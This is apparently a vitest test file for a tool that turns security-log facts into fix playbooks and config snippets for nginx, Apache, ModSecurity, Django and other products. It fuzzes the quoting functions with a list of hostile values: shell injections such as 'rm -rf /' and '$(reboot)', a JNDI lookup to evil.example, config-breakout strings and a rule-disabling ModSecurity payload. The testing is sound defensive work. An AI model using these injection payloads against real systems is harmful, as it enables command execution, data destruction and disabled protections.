/** Playbooks: complete, about the right product, and closed against hostile values. */
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { Playbook } from '../server/api/contract.ts';
import { type PlaybookFacts, playbookFor } from '../server/attribute/playbook/index.ts';
import * as quote from '../server/attribute/playbook/quote.ts';
import { CAUSES, type Cause } from '../server/model/taxonomy.ts';

const causes = Object.keys(CAUSES) as Cause[];
const none: PlaybookFacts = {
  dataset: null,
  product: null,
  ruleId: null,
  host: null,
  path: null,
  parameter: null,
  clientAddress: null,
  filePath: null,
  userAgent: null,
  method: null,
  user: null,
};
const facts: PlaybookFacts = {
  dataset: null,
  product: null,
  ruleId: '942100',
  host: 'shop.example.com',
  path: '/orders',
  parameter: 'ARGS:q',
  clientAddress: '203.0.113.7',
  filePath: '/srv/shop/report.pdf',
  userAgent: 'Feed/1.0',
  method: 'POST',
  user: 'alice',
};
const all = (p: Playbook): string[] => [
  p.title,
  p.meaning,
  ...p.confirm,
  ...p.prevent,
  ...p.doNot,
  ...p.fix.flatMap((f) => [f.text, f.snippet ?? '']),
];
const snippet = (cause: Cause, product: string, given: Partial<PlaybookFacts> = {}): string =>
  playbookFor(cause, { ...facts, product, ...given }).fix[0]?.snippet ?? '';

describe('every cause', () => {
  test.each(causes)('%s says what happened, how to be sure, what to change and what to leave', (cause) => {
    for (const given of [none, facts]) {
      const p = Playbook.parse(playbookFor(cause, given));
      expect(p.confirm.length).toBeGreaterThanOrEqual(2);
      expect(p.confirm.length).toBeLessThanOrEqual(4);
      expect(p.fix.length).toBeGreaterThanOrEqual(1);
      for (const list of [p.prevent, p.doNot]) {
        expect(list.length).toBeGreaterThanOrEqual(1);
        expect(list.length).toBeLessThanOrEqual(3);
      }
      for (const text of [p.meaning, ...p.confirm, ...p.prevent, ...p.doNot, ...p.fix.map((f) => f.text)]) {
        expect(text.trim().length).toBeGreaterThan(15);
        expect(text).toMatch(/[.:?]$/);
      }
      for (const f of p.fix) expect(f.snippet === null || f.snippet.trim() !== '').toBe(true);
      for (const text of all(p))
        expect(text.replace(/\/dev\/null|, null\)/g, '')).not.toMatch(/\b(?:undefined|NaN|null)\b|\[object /);
      expect(new Set(p.fix.map((f) => `${f.product} ${f.text}`)).size).toBe(p.fix.length);
    }
  });

  test.each(causes)('%s leaves no placeholder for a fact that is known', (cause) => {
    for (const text of all(playbookFor(cause, facts)))
      expect(text.replace('<address>203.0.113.7</address>', '')).not.toMatch(
        /<(address|host|path|file|parameter|user agent|user|method|rule)>/,
      );
  });

  test.each(causes)('%s invents no value where a fact is missing', (cause) => {
    for (const text of all(playbookFor(cause, none)))
      expect(text).not.toMatch(/203\.0\.113|example\.com|\/orders|942100/);
  });

  test.each(causes)('%s warns against the blunt way, and takes no such way itself', (cause) => {
    const p = playbookFor(cause, facts);
    for (const f of p.fix) {
      expect(f.snippet ?? '').not.toMatch(
        /chmod (-R )?777|SecRuleEngine|setenforce|satisfy any|0\.0\.0\.0\/0|--insecure|curl -\w*k/i,
      );
    }
  });
});

describe('product of the facts', () => {
  test.each<[Cause, string, string, string]>([
    ['waf.sqli', 'modsecurity', 'modsecurity.audit', 'ModSecurity / Coraza with CRS'],
    ['waf.sqli', 'nginx', 'nginx.error', 'ModSecurity / Coraza with CRS'],
    ['waf.sqli', 'apache', 'apache.error', 'ModSecurity / Coraza with CRS'],
    ['waf.xss', 'cloudflare', 'cloudflare.firewall', 'Cloudflare'],
    ['waf.xss', 'aws', 'aws.waf', 'AWS WAF'],
    ['address.not-allowed', 'nginx', 'nginx.error', 'nginx'],
    ['address.not-allowed', 'apache', 'apache.error', 'Apache'],
    ['address.denied', 'haproxy', 'haproxy.http', 'HAProxy'],
    ['address.reputation', 'fail2ban', 'fail2ban', 'fail2ban'],
    ['config.access', 'lighttpd', 'lighttpd.error', 'lighttpd'],
    ['config.access', 'caddy', 'caddy.access', 'Caddy'],
    ['csrf.origin', 'django', 'django', 'Django'],
    ['csrf.missing', 'spring', 'spring.app', 'Spring'],
    ['gateway.acl', 'kong', 'kong.http', 'Kong'],
    ['gateway.policy', 'envoy', 'envoy.access', 'Envoy / Istio'],
    ['gateway.tenant', 'apinto', 'apinto.access', 'APIPark / Apinto'],
    ['gateway.upstream', 'apisix', 'apisix.http', 'APISIX'],
    ['limit.rate', 'traefik', 'traefik.access', 'Traefik'],
  ])('%s by %s', (cause, product, dataset, first) => {
    const fix = playbookFor(cause, { ...facts, product, dataset }).fix;
    expect(fix[0]?.product).toBe(first);
    // Nothing about products that play no part here.
    expect(fix.length).toBeLessThan(playbookFor(cause, facts).fix.length);
  });

  test('NAXSI comes first when the rule is one of its own', () => {
    expect(playbookFor('waf.sqli', { ...facts, product: 'nginx', ruleId: '1009' }).fix[0]?.product).toBe('NAXSI');
  });

  test('an unknown product shows the usual ones', () => {
    expect(playbookFor('csrf.missing', { ...facts, product: 'text', dataset: 'text.app' }).fix).toEqual(
      playbookFor('csrf.missing', facts).fix,
    );
  });
});

describe('snippets', () => {
  test('CRS exclusion for host, path and parameter', () => {
    expect(snippet('waf.sqli', 'modsecurity')).toBe(
      [
        'SecRule REQUEST_HEADERS:Host "@streq shop.example.com" "id:10001,phase:1,pass,nolog,chain"',
        '  SecRule REQUEST_FILENAME "@streq /orders" "ctl:ruleRemoveTargetById=942100;ARGS:q"',
      ].join('\n'),
    );
  });
  test('without a parameter the rule goes, for the path only', () => {
    expect(snippet('waf.rce', 'modsecurity', { parameter: null })).toContain(
      '"@streq /orders" "ctl:ruleRemoveById=942100"',
    );
  });
  test('an encoded path is compared decoded', () => {
    expect(snippet('waf.sqli', 'modsecurity', { path: '/my%20orders' })).toContain(
      '"@streq /my orders" "t:none,t:urlDecodeUni,ctl:',
    );
    expect(snippet('address.not-allowed', 'nginx', { path: '/my%20orders' })).toContain('location = "/my orders" {');
    expect(snippet('address.not-allowed', 'haproxy', { path: '/my%20orders' })).toContain("path -m str '/my%20orders'");
  });
  test.each<[Cause, string, string]>([
    ['address.not-allowed', 'nginx', 'location = /orders {\n  allow 203.0.113.7;'],
    ['address.not-allowed', 'apache', '<Location "/orders">\n  Require ip 203.0.113.7'],
    ['address.not-allowed', 'haproxy', 'acl known_client src 203.0.113.7'],
    ['address.reputation', 'crowdsec', 'cscli decisions delete --ip 203.0.113.7'],
    ['csrf.origin', 'django', 'CSRF_TRUSTED_ORIGINS = ["https://shop.example.com"]'],
    ['config.host', 'django', 'ALLOWED_HOSTS = [..., "shop.example.com"]'],
    ['config.rewrite', 'apache', 'RewriteCond %{REQUEST_URI} !"^/orders$"'],
    ['config.method', 'nginx', 'limit_except GET POST { deny all; }'],
    ['waf.sqli', 'naxsi', 'BasicRule wl:942100 "mz:$URL:/orders|$ARGS_VAR:q";'],
  ])('%s with %s', (cause, product, part) => {
    expect(snippet(cause, product)).toContain(part);
  });
  test('lifting a ban names the jail', () => {
    expect(snippet('address.reputation', 'fail2ban', { ruleId: 'sshd' })).toContain(
      'fail2ban-client set sshd unbanip 203.0.113.7\n',
    );
    expect(snippet('address.reputation', 'fail2ban', { ruleId: null, clientAddress: null })).toContain(
      "set '<jail>' unbanip '<address>'",
    );
  });
  test('file rights are changed for one file', () => {
    const p = playbookFor('config.permissions', facts);
    expect(p.confirm[0]).toContain('namei -l /srv/shop/report.pdf');
    expect(p.fix.map((f) => f.snippet).join('\n')).toContain('chmod g+x /srv/shop');
  });
});

/** What each target's own reader makes of a token; null when the token does not end where it should. */
const readers: Record<string, { write: quote.Escaper; read: (token: string) => string | null }> = {
  shell: {
    write: quote.shell,
    read: (t) =>
      /^[\w./:@%+,-]+$/.test(t) ? t : /^(?:'[^']*'|\\')+$/.test(t) ? t.replace(/'([^']*)'|\\(')/g, '$1$2') : null,
  },
  nginx: { write: quote.nginx, read: (t) => (t.includes('$') ? null : bareOr(t, (q) => double(q, /["'\\]/))) },
  nginxMapKey: {
    write: quote.nginxMapKey,
    read: (t) => {
      const key = t.includes('$') ? null : bareOr(t, (q) => double(q, /["'\\]/));
      return key !== null && /^[~\\]/.test(key) ? null : key;
    },
  },
  apache: { write: quote.apache, read: (t) => (/[$%]\{/.test(t) ? null : double(t, /["\\]/)) },
  apachePath: { write: quote.apachePath, read: (t) => (/[*?[\]]/.test(t) ? null : double(t, /["\\]/)) },
  secRule: { write: quote.secRule, read: (t) => (/["\\]|%\{/.test(t) ? null : t) },
  yaml: {
    write: quote.yaml,
    read: (t) => (t.startsWith('"') ? String((parse(`a: ${t}\nb: 1`) as { a: string }).a) : null),
  },
  jsonPath: { write: quote.jsonPath, read: (t) => (/[*?:{}]/.test(t) ? null : (JSON.parse(t) as string)) },
  json: { write: quote.json, read: (t) => JSON.parse(t) as string },
  single: {
    write: quote.single,
    read: (t) => (/^'(?:[^'\\]|\\['\\])*'$/.test(t) ? t.slice(1, -1).replace(/\\(.)/gu, '$1') : null),
  },
  haproxy: { write: quote.haproxy, read: (t) => bareOr(t, (q) => (/^'[^']*'$/.test(q) ? q.slice(1, -1) : null)) },
  vcl: { write: quote.vcl, read: (t) => (/^"[^"]*"$/.test(t) ? t.slice(1, -1) : null) },
  caddy: { write: quote.caddy, read: (t) => bareOr(t, (q) => (/^"[^"\\{}]*"$/.test(q) ? q.slice(1, -1) : null)) },
  lighttpd: { write: quote.lighttpd, read: (t) => (/^"[^"\\]*"$/.test(t) ? t.slice(1, -1) : null) },
  word: { write: quote.word, read: (t) => (/^[\w.:/@-]+$/.test(t) ? t : null) },
};
const bareOr = (t: string, quoted: (t: string) => string | null): string | null =>
  /^[\w./:@-]+$/.test(t) ? t : quoted(t);
/** Double quotes with a backslash before `escapable`. */
function double(t: string, escapable: RegExp): string | null {
  if (!t.startsWith('"')) return null;
  let out = '';
  for (let i = 1; i < t.length; i++) {
    if (t[i] === '"') return i === t.length - 1 ? out : null;
    if (t[i] === '\\' && i + 1 < t.length && escapable.test(t[i + 1]!)) i++;
    out += t[i];
  }
  return null;
}

const HOSTILE = [
  '"; rm -rf /',
  "'; rm -rf / #",
  "it's",
  '$(reboot)',
  '`reboot`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what scanners send
  '${jndi:ldap://evil.example/a}',
  '%{ENV:PATH}',
  '\\',
  '\\"',
  "\\'",
  'a\\',
  '}',
  '} location / { return 200; } #',
  '; return 200;',
  '/a\nallow all;',
  '/a\r\nRequire all granted',
  '/a\u0000b',
  '\u001b[31m',
  '\u202etxt.exe',
  '\u2028',
  '\ud800',
  '{{ 7*7 }}',
  '-rf',
  '--json=@/etc/passwd',
  '~*.*',
  'default',
  '/a" "ctl:ruleEngine=Off',
  '</Location>',
  '&& !known',
  ' ',
  '#',
  '/%0aallow%20all;',
  '/%22%3b%7d',
  'ä€😀',
];
const hostile = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.array(fc.constantFrom(...'\'"\\`$(){}[];#%\n\r\t <>|&*?~^!,=:/-ab'), { maxLength: 30 }).map((a) => a.join('')),
);

describe('a value cannot leave its token', () => {
  test.each(Object.entries(readers))('%s', (_name, { write, read }) => {
    fc.assert(
      fc.property(hostile, (value) => {
        const token = write(value);
        if (token === null) return;
        expect(token).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
        expect(read(token)).toBe(value);
      }),
      { numRuns: 2000, examples: HOSTILE.map((h): [string] => [h]) },
    );
  });

  test.each(Object.entries(readers))('%s refuses what is too long, empty or unseen', (_name, { write }) => {
    for (const value of ['', 'a'.repeat(301), 'a\nb', 'a\u0000', 'a\u202eb', 'a\u200bb', '\u0085', '\ud800'])
      expect(write(value)).toBeNull();
  });

  test('expressions match the value and nothing else', () => {
    fc.assert(
      fc.property(hostile, hostile, (value, other) => {
        const literal = quote.regexLiteral(value);
        if (literal === null) return;
        const re = new RegExp(`^${literal}$`, 'u');
        expect(re.test(value)).toBe(true);
        expect(re.test(other)).toBe(other === value);
        const string = quote.jsonRegex(value);
        if (string !== null) expect(new RegExp(JSON.parse(string) as string, 'u').test(value)).toBe(true);
        const argument = quote.apacheRegex(value);
        if (argument !== null) expect(new RegExp(double(argument, /["\\]/)!, 'u').test(value)).toBe(true);
      }),
      { examples: HOSTILE.map((h): [string, string] => [h, '/']) },
    );
  });

  test('a real shell reads each word as it was', () => {
    const values = HOSTILE.filter((h) => quote.shell(h) !== null);
    expect(values.length).toBeGreaterThan(15);
    const script = values.map((h) => `printf '%s\\n' ${quote.shell(h)}`).join('\n');
    expect(execFileSync('sh', ['-c', script], { encoding: 'utf8' })).toBe(values.map((h) => `${h}\n`).join(''));
  });
});

describe('hostile facts', () => {
  /** Lines of each text: a value that adds one has left its token. */
  const shape = (p: Playbook): string[] =>
    all(p).map((text) => String(text.split(/\r\n|[\n\r\u2028\u2029\u0085]/).length));
  const products = [
    null,
    'nginx',
    'apache',
    'haproxy',
    'modsecurity',
    'kong',
    'django',
    'caddy',
    'varnish',
    'lighttpd',
  ];
  const anything = fc.record({
    ruleId: hostile,
    host: hostile,
    path: hostile.map((h) => `/${h}`),
    parameter: hostile,
    clientAddress: hostile,
    filePath: hostile.map((h) => `/${h}`),
    userAgent: hostile,
    method: hostile,
    user: hostile,
  });

  test('change no structure, whatever the cause and product', () => {
    fc.assert(
      fc.property(fc.constantFrom(...causes), fc.constantFrom(...products), anything, (cause, product, values) => {
        const p = playbookFor(cause, { ...none, ...values, product });
        const good = playbookFor(cause, {
          ...facts,
          product,
          ruleId: /^\d{1,4}$/.test(values.ruleId) ? '1009' : facts.ruleId,
          parameter: values.parameter === '' ? null : facts.parameter,
        });
        expect(shape(p)).toEqual(shape(good));
        for (const text of all(p)) {
          expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\ufeff]/);
          expect(text).not.toContain('undefined');
        }
      }),
      { numRuns: 3000 },
    );
  });

  test.each(HOSTILE)('addresses, hosts, methods and rules are shown only when they are such: %j', (h) => {
    const p = playbookFor('address.not-allowed', { ...facts, clientAddress: h, host: h, method: h, product: 'nginx' });
    expect(p.fix[0]?.snippet).toContain('allow <address>;');
    const w = playbookFor('waf.sqli', {
      ...facts,
      ruleId: h,
      parameter: `ARGS:${h}"`,
      host: `${h}"`,
      path: `/${h}"`,
      product: 'modsecurity',
    });
    expect(w.fix[0]?.snippet?.split('\n').slice(0, 2).join('\n').replace('t:none,t:urlDecodeUni,', '')).toBe(
      [
        'SecRule REQUEST_HEADERS:Host "@streq <host>" "id:10001,phase:1,pass,nolog,chain"',
        '  SecRule REQUEST_FILENAME "@streq /<path>" "ctl:ruleRemoveTargetById=<rule>;ARGS:<parameter>"',
      ].join('\n'),
    );
  });

  test('short forms of addresses are refused: tools disagree on what they mean', () => {
    for (const a of ['127.1', '0177.0.0.1', '2130706433', '1.2.3.4.5', 'fe80::1%eth0', '10.0.0.0/8'])
      expect(snippet('address.not-allowed', 'nginx', { clientAddress: a })).toContain('allow <address>;');
    expect(snippet('address.not-allowed', 'nginx', { clientAddress: '2001:DB8::1' })).toContain('allow 2001:db8::1;');
  });
});
